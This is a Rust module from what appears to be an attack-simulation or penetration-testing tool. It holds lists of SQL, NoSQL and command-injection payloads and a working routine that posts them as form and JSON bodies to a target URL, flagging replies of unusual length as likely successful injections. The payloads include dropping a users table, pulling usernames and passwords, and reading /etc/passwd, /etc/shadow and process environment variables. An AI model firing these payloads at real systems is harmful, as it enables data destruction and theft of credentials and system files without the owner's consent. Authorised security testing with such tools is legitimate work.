use super::payload::ReviewPayload;
use crate::error::{Result, SimError};
use log::warn;
use rand::seq::SliceRandom;
use rand::Rng;
use reqwest::blocking::Client;
use std::fmt;
use std::str::FromStr;
use std::thread;
use std::time::Duration;

const SQL_INJECTION_PAYLOADS: &[&str] = &[
    "' OR 1=1 --",
    "'; DROP TABLE users; --",
    "' UNION SELECT username, password FROM users --",
    "admin' --",
    "' OR '1'='1",
    "'; WAITFOR DELAY '0:0:10'--",
    "1'; SELECT @@version; --",
];

const NOSQL_INJECTION_PAYLOADS: &[&str] = &[
    r#"{"$gt": ""}"#,
    r#"{"$ne": null}"#,
    r#"{"$where": "sleep(10000)"}"#,
    r#"{"$where": "this.password == this.username"}"#,
    r#"{"username": {"$regex": "admin"}}"#,
    r#"{"$where": "function(){return 1;}"}"#,
    r#"{"$where": "new Date()"}"#,
];

const CMD_INJECTION_PAYLOADS: &[&str] = &[
    "; ls -la",
    "& cat /etc/passwd",
    "| cat /proc/self/environ",
    "; env",
    "` cat /etc/passwd `",
    "$(cat /etc/passwd)",
    "|| cat /etc/shadow",
];

/// Length difference from the baseline response that marks a reply as suspicious.
const LENGTH_DEVIATION: usize = 100;

const SNIPPET_CHARS: usize = 300;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InjectionKind {
    Sql,
    NoSql,
    Cmd,
}

impl InjectionKind {
    pub fn payloads(&self) -> &'static [&'static str] {
        match self {
            InjectionKind::Sql => SQL_INJECTION_PAYLOADS,
            InjectionKind::NoSql => NOSQL_INJECTION_PAYLOADS,
            InjectionKind::Cmd => CMD_INJECTION_PAYLOADS,
        }
    }

    pub fn title(&self) -> &'static str {
        match self {
            InjectionKind::Sql => "SQL Injection",
            InjectionKind::NoSql => "NoSQL Injection",
            InjectionKind::Cmd => "Command Injection",
        }
    }
}

impl fmt::Display for InjectionKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            InjectionKind::Sql => "sql",
            InjectionKind::NoSql => "nosql",
            InjectionKind::Cmd => "cmd",
        };
        f.write_str(name)
    }
}

impl FromStr for InjectionKind {
    type Err = SimError;

    fn from_str(s: &str) -> Result<Self> {
        match s.to_lowercase().as_str() {
            "sql" => Ok(InjectionKind::Sql),
            "nosql" => Ok(InjectionKind::NoSql),
            "cmd" => Ok(InjectionKind::Cmd),
            _ => Err(SimError::UnknownInjectionKind(s.to_string())),
        }
    }
}

/// Pick `attempts` payloads: distinct ones first, then repeats once the list
/// is exhausted.
pub fn select_payloads<R: Rng>(kind: InjectionKind, attempts: usize, rng: &mut R) -> Vec<&'static str> {
    let payloads = kind.payloads();
    let mut selected: Vec<&'static str> = payloads
        .choose_multiple(rng, attempts.min(payloads.len()))
        .copied()
        .collect();
    for _ in payloads.len()..attempts {
        if let Some(payload) = payloads.choose(rng).copied() {
            selected.push(payload);
        }
    }
    selected
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BodyEncoding {
    Form,
    Json,
}

impl BodyEncoding {
    fn label(&self) -> &'static str {
        match self {
            BodyEncoding::Form => "Form data",
            BodyEncoding::Json => "JSON data",
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InjectionResponse {
    pub attempt: usize,
    pub encoding: BodyEncoding,
    pub status: u16,
    pub content_length: usize,
}

/// Responses whose body length strays from the first recorded response.
pub fn deviating_responses(responses: &[InjectionResponse]) -> Vec<&InjectionResponse> {
    let Some(baseline) = responses.first() else {
        return Vec::new();
    };
    responses
        .iter()
        .filter(|r| r.content_length.abs_diff(baseline.content_length) > LENGTH_DEVIATION)
        .collect()
}

pub fn potential_successes(responses: &[InjectionResponse]) -> usize {
    deviating_responses(responses).len()
}

#[derive(Debug, Clone)]
pub struct InjectionReport {
    pub kind: InjectionKind,
    pub attempts: usize,
    pub responses: Vec<InjectionResponse>,
}

impl InjectionReport {
    pub fn potential_successes(&self) -> usize {
        potential_successes(&self.responses)
    }

    pub fn print(&self, url: &str) {
        println!("\n----- Code Injection Attack Results -----");
        println!("Attack Type: {}", self.kind);
        println!("Target URL: {}", url);
        println!("Attempts: {}", self.attempts);
        println!("Responses recorded: {}", self.responses.len());
        println!("Potential successful injections: {}", self.potential_successes());
        for r in deviating_responses(&self.responses) {
            println!(
                "  Attempt {} ({}): Status {}, Length {}",
                r.attempt + 1,
                r.encoding.label(),
                r.status,
                r.content_length
            );
        }
    }
}

fn send_payload(
    client: &Client,
    url: &str,
    attempt: usize,
    encoding: BodyEncoding,
    body: &ReviewPayload,
) -> Option<InjectionResponse> {
    let request = match encoding {
        BodyEncoding::Form => client.post(url).form(body),
        BodyEncoding::Json => client.post(url).json(body),
    };

    match request.send() {
        Ok(resp) => {
            let status = resp.status().as_u16();
            let text = resp.text().unwrap_or_default();
            println!(
                "{} response: Status {}, Length: {}",
                encoding.label(),
                status,
                text.len()
            );
            println!(
                "Response snippet: {}",
                text.chars().take(SNIPPET_CHARS).collect::<String>()
            );
            Some(InjectionResponse {
                attempt,
                encoding,
                status,
                content_length: text.len(),
            })
        }
        Err(e) => {
            println!("{} request error: {}", encoding.label(), e);
            warn!("Injection attempt {} ({:?}) failed: {}", attempt, encoding, e);
            None
        }
    }
}

/// Post each selected payload twice, once as a form and once as JSON.
pub fn code_injection_attack(
    client: &Client,
    url: &str,
    kind: InjectionKind,
    attempts: usize,
    delay: Duration,
) -> InjectionReport {
    println!("Performing {} attacks", kind.title());

    let selected = select_payloads(kind, attempts, &mut rand::thread_rng());
    let mut responses = Vec::new();

    for (i, payload) in selected.iter().enumerate() {
        println!("\nAttempt {}/{}: Sending payload: {}", i + 1, attempts, payload);
        let body = ReviewPayload::injection(i, payload);

        for encoding in [BodyEncoding::Form, BodyEncoding::Json] {
            if let Some(response) = send_payload(client, url, i, encoding, &body) {
                responses.push(response);
            }
        }

        if i + 1 < attempts {
            thread::sleep(delay);
        }
    }

    InjectionReport {
        kind,
        attempts,
        responses,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    use std::collections::HashSet;

    fn response(attempt: usize, length: usize) -> InjectionResponse {
        InjectionResponse {
            attempt,
            encoding: BodyEncoding::Json,
            status: 200,
            content_length: length,
        }
    }

    #[test]
    fn test_parse_kind() {
        assert_eq!("SQL".parse::<InjectionKind>().unwrap(), InjectionKind::Sql);
        assert_eq!("nosql".parse::<InjectionKind>().unwrap(), InjectionKind::NoSql);
        assert_eq!("cmd".parse::<InjectionKind>().unwrap(), InjectionKind::Cmd);
        assert!("xss".parse::<InjectionKind>().is_err());
    }

    #[test]
    fn test_every_kind_has_seven_payloads() {
        for kind in [InjectionKind::Sql, InjectionKind::NoSql, InjectionKind::Cmd] {
            assert_eq!(kind.payloads().len(), 7);
        }
    }

    #[test]
    fn test_select_distinct_when_budget_fits() {
        let mut rng = StdRng::seed_from_u64(1);
        let selected = select_payloads(InjectionKind::Sql, 5, &mut rng);
        assert_eq!(selected.len(), 5);
        let unique: HashSet<_> = selected.iter().collect();
        assert_eq!(unique.len(), 5);
    }

    #[test]
    fn test_select_repeats_beyond_list() {
        let mut rng = StdRng::seed_from_u64(2);
        let selected = select_payloads(InjectionKind::Cmd, 12, &mut rng);
        assert_eq!(selected.len(), 12);
        // The first seven cover the whole list
        let head: HashSet<_> = selected[..7].iter().collect();
        assert_eq!(head.len(), 7);
        assert!(selected.iter().all(|p| CMD_INJECTION_PAYLOADS.contains(p)));
    }

    #[test]
    fn test_select_zero_attempts() {
        let mut rng = StdRng::seed_from_u64(3);
        assert!(select_payloads(InjectionKind::NoSql, 0, &mut rng).is_empty());
    }

    #[test]
    fn test_potential_successes() {
        assert_eq!(potential_successes(&[]), 0);
        let responses = vec![
            response(0, 500),
            response(0, 550),
            response(1, 601),
            response(2, 350),
        ];
        assert_eq!(potential_successes(&responses), 2);
        let attempts: Vec<_> = deviating_responses(&responses)
            .iter()
            .map(|r| r.attempt)
            .collect();
        assert_eq!(attempts, vec![1, 2]);
    }

    #[test]
    fn test_unreachable_target_records_nothing() {
        let client = Client::builder()
            .timeout(Duration::from_secs(1))
            .build()
            .unwrap();
        let report = code_injection_attack(
            &client,
            "http://127.0.0.1:9/reviews",
            InjectionKind::Sql,
            2,
            Duration::ZERO,
        );
        assert_eq!(report.attempts, 2);
        assert!(report.responses.is_empty());
        assert_eq!(report.potential_successes(), 0);
    }
}
